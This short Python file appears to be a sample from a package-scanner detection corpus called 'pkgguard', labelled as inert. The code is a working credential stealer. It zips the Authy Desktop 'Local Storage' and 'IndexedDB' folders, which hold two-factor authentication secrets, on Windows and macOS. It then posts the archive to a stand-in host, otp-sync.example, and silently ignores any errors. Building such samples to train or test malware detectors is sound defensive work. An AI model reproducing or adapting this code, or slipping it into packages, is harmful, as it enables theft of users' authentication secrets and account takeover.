# pkgguard corpus 919 (credentials), modelled on [stealer-profile]; inert, never run.
import io
import os
import sys
import zipfile

import requests

if sys.platform == "win32":
    base = os.path.join(os.environ.get("APPDATA", ""), "Authy Desktop")
elif sys.platform == "darwin":
    base = os.path.expanduser("~/Library/Application Support/Authy Desktop")
else:
    base = ""

if base and os.path.isdir(base):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for folder in ("Local Storage", "IndexedDB"):
            for root, _dirs, files in os.walk(os.path.join(base, folder)):
                for name in files:
                    full = os.path.join(root, name)
                    archive.write(full, os.path.relpath(full, base))
    try:
        requests.post("https://otp-sync.example/upload", files={"a": ("a.zip", buffer.getvalue())}, timeout=20)
    except requests.RequestException:
        pass
